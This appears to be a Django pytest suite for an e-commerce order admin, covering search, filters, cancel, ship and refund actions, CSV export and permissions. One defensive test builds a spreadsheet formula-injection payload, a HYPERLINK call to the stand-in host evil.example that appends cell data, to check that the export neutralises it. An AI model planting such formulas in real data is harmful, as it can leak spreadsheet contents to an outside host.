import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import Client

from orders.models import Order, Shipment
from orders.tests.helpers import ADDRESS, at_status, stock_of

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/orders/order/"


@pytest.fixture
def admin_client(staff):
    client = Client()
    client.force_login(staff)
    return client


def act(client, action, orders, **extra):
    data = {"action": action, ACTION_CHECKBOX_NAME: [o.pk for o in orders], **extra}
    return client.post(CHANGELIST, data)


@pytest.mark.parametrize(
    "query,found",
    [
        ("13912345678", True),  # phone in the address snapshot
        ("{username}", True),
        ("{email}", True),
        ("{number}", True),
        ("nobody-here", False),
    ],
)
def test_changelist_search(admin_client, user, variant, place, query, found):
    order = place(user, (variant, 1))
    q = query.format(username=user.username, email=user.email, number=order.number)
    response = admin_client.get(CHANGELIST, {"q": q})
    assert response.status_code == 200
    assert (order.number in response.content.decode()) is found


def test_changelist_filters(admin_client, user, variant, place):
    pending = place(user, (variant, 1))
    paid = at_status(place(user, (variant, 1)), "processing")
    body = admin_client.get(CHANGELIST, {"payment_status__exact": "paid"}).content.decode()
    assert paid.number in body and pending.number not in body
    body = admin_client.get(CHANGELIST, {"status__exact": "pending"}).content.decode()
    assert pending.number in body and paid.number not in body
    body = admin_client.get(CHANGELIST, {"created_at__gte": "2000-01-01 00:00:00+08:00"}).content
    assert pending.number in body.decode()


def test_change_page_is_read_only(admin_client, user, variant, place):
    order = at_status(place(user, (variant, 2)), "shipped")
    url = f"{CHANGELIST}{order.pk}/change/"
    body = admin_client.get(url).content.decode()
    assert order.lines.get().sku in body and "SF1" in body  # lines and shipments inline
    admin_client.post(url, {"status": "pending", "total": "0.01", "notes": "hi"})
    order.refresh_from_db()
    assert (order.status, str(order.total)) == ("shipped", "100.00")


def test_cancel_action_goes_through_the_service(admin_client, user, variant, place):
    order = place(user, (variant, 3))
    shipped = at_status(place(user, (variant, 1)), "shipped")
    act(admin_client, "cancel_orders", [order, shipped])
    order.refresh_from_db()
    assert order.status == "cancelled"
    assert Order.objects.get(pk=shipped.pk).status == "shipped"  # illegal: reported, not done
    assert stock_of(variant).quantity_allocated == 0
    assert order.events.last().to_status == "cancelled"


def test_ship_action_asks_for_carrier_then_ships(admin_client, user, variant, place):
    order = at_status(place(user, (variant, 2)), "processing")
    form = act(admin_client, "ship_orders", [order])
    assert form.status_code == 200
    assert 'name="tracking_number"' in form.content.decode()
    assert Order.objects.get(pk=order.pk).status == "processing"

    act(admin_client, "ship_orders", [order], apply="1", carrier="YTO", tracking_number="YT42")
    order.refresh_from_db()
    assert order.status == "shipped"
    assert Shipment.objects.get(order=order).tracking_number == "YT42"
    assert stock_of(variant).quantity == 8


def test_refund_action_refunds_in_full(admin_client, user, variant, place, gateway_refund):
    order = at_status(place(user, (variant, 2)), "processing")
    form = act(admin_client, "refund_orders", [order])
    assert form.status_code == 200 and not gateway_refund  # asks for the reason (and amount)
    act(admin_client, "refund_orders", [order], apply="1", amount="", reason="broken")
    assert [(number, reason) for number, _, reason, _ in gateway_refund] == [
        (order.number, "broken")
    ]
    order.refresh_from_db()
    assert (order.status, order.payment_status, order.refunded_amount) == (
        "refunded",
        "refunded",
        order.total,
    )


def test_csv_export(admin_client, user, variant, place):
    orders = [place(user, (variant, 1)), place(user, (variant, 2))]
    response = act(admin_client, "export_csv", orders)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r["number"] for r in rows} == {o.number for o in orders}
    assert {r["total"] for r in rows} == {"60.00", "100.00"}
    assert rows[0]["phone"] == ADDRESS["phone"]
    assert rows[0]["full_name"] == ADDRESS["full_name"]


def test_merchants_cannot_refund_from_the_admin(merchant, user, variant, place, gateway_refund):
    """Merchants may change orders (ship them), but money leaves the shop only by staff."""
    client = Client()
    client.force_login(merchant)
    order = at_status(place(user, (variant, 1)), "processing")
    changelist = client.get("/admin/orders/order/")
    assert changelist.status_code == 200
    assert "refund_orders" not in changelist.content.decode()
    act(client, "refund_orders", [order])
    order.refresh_from_db()
    assert (order.payment_status, order.refunded_amount) == ("paid", 0)
    assert gateway_refund == []


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formulae(admin_client, user, variant, place, lead):
    """A customer types the name and address: a cell a spreadsheet would run as a formula is
    exported as text (a leading apostrophe), never as the formula."""
    order = place(user, (variant, 1))
    evil = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    address = {**order.shipping_address, "full_name": evil, "street": evil}
    Order.objects.filter(pk=order.pk).update(shipping_address=address)
    response = act(admin_client, "export_csv", [order])
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["full_name"] == "'" + evil
    assert not rows[0]["address"].startswith(lead)
    assert rows[0]["total"] == "60.00"  # numbers stay numbers


@pytest.mark.parametrize("query", ["bogus=1", "created_at__gte=notadate", "id__exact=abc"])
def test_filtered_csv_export_with_a_bad_filter_is_not_a_500(staff, query):
    """The export link carries the changelist's query string; a hand-edited one that the list
    itself refuses (?e=1) is refused the same way by the export, not answered with a 500."""
    client = Client(raise_request_exception=False)
    client.force_login(staff)
    response = client.get(f"{CHANGELIST}export-csv/?{query}")
    assert response.status_code == 302
    assert response["Location"] == f"{CHANGELIST}?e=1"
